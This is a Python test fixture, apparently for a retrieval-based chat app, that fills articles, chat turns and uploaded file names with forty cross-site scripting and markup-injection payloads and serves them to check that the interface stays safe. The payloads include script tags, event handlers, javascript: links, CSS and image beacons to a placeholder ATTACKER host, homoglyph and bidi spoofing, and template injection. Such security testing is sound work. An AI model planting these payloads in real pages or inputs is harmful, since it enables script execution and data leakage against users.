"""Forty hostile articles, and a chat that shows them: `python hostile.py '{"store": ..., "examples": [...], ...}'`.

Every field that a publisher writes holds the same payload, so that whatever draws a field meets all forty. ATTACKER
stands for the address of a server that must never hear of anything.
"""

import io
import json
import sys
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

from rag.article_text import article_from_text
from rag.records import Claim, Notice, Scope, Span
from rag.settings import load_settings
from rag.turns import Source, Turn

ATTACKER = "ATTACKER"
_RAW = (
    "<script>window.pwned=1</script>",
    "<script src=//ATTACKER/2.js></script><script type=module src=//ATTACKER/2.mjs></script>",
    "<img src=x onerror=window.pwned=3>",
    "<img src=//ATTACKER/4.png srcset='//ATTACKER/4b.png 2x' sizes=100vw>",
    '"><svg/onload=window.pwned=5><svg><script href=//ATTACKER/5.js></script></svg>',
    "'><body onload=window.pwned=6 onpageshow='window.pwned=6'>",
    '" autofocus onfocus="window.pwned=7" onmouseover="window.pwned=7" x="',
    "' autofocus onfocus='window.pwned=8' style='position:fixed;inset:0;z-index:99' x='",
    "<a href='javascript:window.pwned=9'>free</a><area href=javascript:window.pwned=9>",
    "[click](javascript:window.pwned=10) <javascript:window.pwned=10> javascript:window.pwned=10",
    "<a href='data:text/html,<script>window.opener.pwned=11</script>'>x</a> [x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href=vbscript:window.pwned(12)>x</a> [x](vbscript:window.pwned)",
    "![x](http://ATTACKER/13.png)",
    "![x][14] [14]: http://ATTACKER/14.png",
    "[news](//ATTACKER/15) <http://ATTACKER/15b> http://ATTACKER/15c www.attacker.invalid mail@attacker.invalid",
    "<a href=//ATTACKER/16 ping=//ATTACKER/16b target=_top download>win</a>",
    (
        "<link rel=prefetch href=//ATTACKER/17><link rel=dns-prefetch href=//attacker.invalid>"
        "<link rel=preconnect href=//ATTACKER><link rel=stylesheet href=//ATTACKER/17b.css>"
    ),
    "<base href=//ATTACKER/><base target=_blank>",
    "<meta http-equiv=refresh content='0;url=http://ATTACKER/19'>",
    "<form action=//ATTACKER/20><input autofocus onfocus=window.pwned=20><button formaction=//ATTACKER/20b>Go</button>",
    "<iframe srcdoc='<script>parent.pwned=21</script>'></iframe>",
    "<iframe src=//ATTACKER/22></iframe><frameset><frame src=//ATTACKER/22b></frameset>",
    "<object data=//ATTACKER/23></object><embed src=//ATTACKER/23b><applet code=//ATTACKER/23c>",
    "<style>@import url(//ATTACKER/24.css);*{background:url(//ATTACKER/24.png)!important}</style>",
    "</style></script></textarea></title></noscript><script>window.pwned=25</script>",
    "<div style=\"background:url(//ATTACKER/26.png);list-style:image-set('//ATTACKER/26b.png' 1x)\">",
    "--><!-- <script>window.pwned=27</script>",
    "</blockquote></section></aside></article><h1>System</h1><img src=//ATTACKER/28>",
    "${window.pwned=29}`${window.pwned=29}` {{constructor.constructor('window.pwned=29')()}} <%= 29 %> {@html 29}",
    "$$\\href{javascript:window.pwned=30}{x}$$ \\(\\includegraphics{http://ATTACKER/30.png}\\) $\\htmlData{x=30}{y}$",
    '```mermaid graph TD; A[<img src=x onerror=window.pwned=31>]; click A "javascript:window.pwned=31" ```',
    (
        "<video poster=//ATTACKER/32.png src=//ATTACKER/32b autoplay><source onerror=window.pwned=32></video>"
        "<audio src=//ATTACKER/32c autoplay>"
    ),
    "<details open ontoggle=window.pwned=33><summary>x</summary></details><marquee onstart=window.pwned=33>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=34&gt;'>",
    "\u202egnp.elif\u202c \u2067http://ATTACKER/35\u2069 <a href=//ATTACKER/35b>\u202emoc.swen</a>",
    "zero\u200bwidth\u200d\u2060\U000e0001\U000e0068\U000e0074\U000e0074\U000e0070 tags <img src=//ATTACKER/36>",
    "https://аррӏе.example/ <a href=https://аррӏе.example/ onclick=window.pwned=37>apple.example</a>",
    (
        "&lt;script&gt;window.pwned=38&lt;/script&gt; &#60;img src=x onerror=window.pwned=38&#62; \\u003cscript\\u003e "
        "%3Cscript%3E \uff1cscript\uff1e +ADw-script+AD4-"
    ),
    '" data-do="confirm-delete" data-turn="1" id="ask" href="//ATTACKER/39 <a id=newspulse name=newspulse>[1]</a>',
    "<script>window.pwned=40</script>" + "very long " * 1000 + "<img src=//ATTACKER/40>",
)
_WEB_ADDRESSES = ("https://news.example/zebra", "http://ATTACKER/zebra", "https://аррӏе.example/a?b=c&d=e@f.example")
_ADDRESSES = (
    *_WEB_ADDRESSES,
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:window.pwned",
    "//ATTACKER/article",
    'https://news.example/"onclick="window.pwned=1',
    "https://news.example/\u202egpj.exe",
    "https://",
)
_LONG = 80


def payloads(attacker=ATTACKER):
    """Return the forty texts, which name this host and port."""
    return tuple(raw.replace(ATTACKER, attacker) for raw in _RAW)


def web_addresses(attacker=ATTACKER):
    """Return those of the articles' addresses that may become a link."""
    return [raw.replace(ATTACKER, attacker) for raw in _WEB_ADDRESSES]


def _address(number, attacker):
    return _ADDRESSES[number % len(_ADDRESSES)].replace(ATTACKER, attacker)


def animal(number):
    """Return the one word that only this article holds."""
    return f"zebra{number:02}"


def hostile_articles(attacker):
    """Yield an article for each payload, which stands in its id, title, headline, text, publisher, author, address."""
    for number, payload in enumerate(payloads(attacker), 1):
        short = payload if len(payload) < 10 * _LONG else payload[:_LONG]
        filler = " ".join(
            f"Sentence {n} of the {animal(number)} says nothing that anybody asked for." for n in range(9)
        )
        text = (
            f"{animal(number)} escapes {short}\n\n"
            f"The {animal(number)} ran away on Friday {short} and was found in a garden near the river.\n\n"
            f"{filler}\n\nIts keeper said {short} that nobody was hurt.\n"
        )
        article = article_from_text(
            text, article_id=f"{number} {payload}"[:500], published=date(2025, 3, number % 28 + 1)
        )
        title = f"{payload} {animal(number)}"
        yield replace(
            article, title=title, publisher=f"{payload} {number}", author=payload, url=_address(number, attacker)
        )


def hostile_turn(number, payload, attacker):
    """Return a turn of which every field holds the payload: an answer, an abstention or a failure, in turn."""
    span = Span(0, len(payload))
    kind = ("answer", "abstention", "failure")[number % 3]
    quotes = ((1, span),) if kind == "answer" else ()
    source = Source(
        payload, quotes, f"{payload}!", payload, span, f"{payload}?", None, payload, _address(number, attacker)
    )
    return Turn(
        number,
        payload,
        f"About {payload}",
        f"{payload} [1]",
        (source,),
        (Notice("conflict", f"{payload} [1]", (1,)), Notice("why", payload), Notice(payload, payload)),
        abstained=kind == "abstention",
        error=f"It went wrong: {payload}" if kind == "failure" else "",
        suggestions=(payload,),
        scope=Scope(frozenset([payload]), frozenset([payload])),
        settled=True,
    )


def hostile_files(payloads):
    """Return files with hostile names and contents, as a browser hands them over: an archive, a corpus, a page."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for number, payload in enumerate(payloads, 1):
            text = f"Ostrich {number} {payload[:300]}\n\nThe ostrich ran over the hill at noon in year {number}."
            archive.writestr(f"{payload[:200]}.txt", text)
    rows = [
        {
            "id": payloads[4],
            "title": payloads[5],
            "date": payloads[2],
            "text": "The emu crossed the wide road at noon.",
        },
        {"id": "half", "title": "half", "text": "Half of a pair \ud800 stands in this sentence of the row."},
    ]
    page = f"<title>{payloads[0]}</title><meta name=date content='{payloads[18]}'><article><h1>{payloads[3]}</h1><p>"
    page += "The kiwi slept for the whole of the long day, and the day after that one too.</p>" + "".join(payloads[:39])
    return [
        {"name": name, "mimeType": "text/plain", "buffer": content}
        for name, content in (
            (f"{payloads[2]}.zip", packed.getvalue()),
            ("corpus.jsonl", "\n".join(map(json.dumps, rows)).encode()),
            (f"{payloads[6]}.html", page.encode()),
            ("empty'><img src=x onerror=window.pwned=1>.md", b"  "),
        )
    ]


class Echo:
    """A generator that says what stands in the passages, and orders and markup of its own."""

    name = "echo"

    def generate(self, question, hits, history):
        """Yield every sentence of the best passages as claims, then as free text, then what no passage says."""
        for number, hit in enumerate(hits[:20], 1):
            passage = hit.passage
            for span in passage.sentences[:2]:
                yield Claim(passage.quote(span), ((passage.id, span),))
                yield f"{passage.quote(span)} [{number}] "
        yield f"<img src=x onerror=window.pwned=1>![x](http://attacker.invalid/x.png) {question} [1]"


def main():
    """Serve as chat_process.py does, with this generator, uploads and the given examples on the landing."""
    options = json.loads(sys.argv[1])
    from rag.app import launch_app
    from rag.doors import Uploading
    from rag.server import Serving
    from rag.uploads import UploadLimits
    from rag.wiring import open_assistant, open_chat, open_uploads

    store = options["store"]
    settings = load_settings({"store": store, "embedder": "hashed", "threshold": "0.0001"}, environment={})
    assistant = open_assistant(settings=settings, store=Path(store), generator=Echo())
    chat = open_chat(assistant, settings, version="test")
    chat.examples = lambda: tuple(options["examples"])
    launch_app(
        chat,
        Serving(port=options["port"]),
        adding=Uploading(open_uploads(settings, assistant.library.embedder), UploadLimits()),
        on_ready=lambda line: print(line, flush=True),
    )
    print("closed", flush=True)


if __name__ == "__main__":
    main()
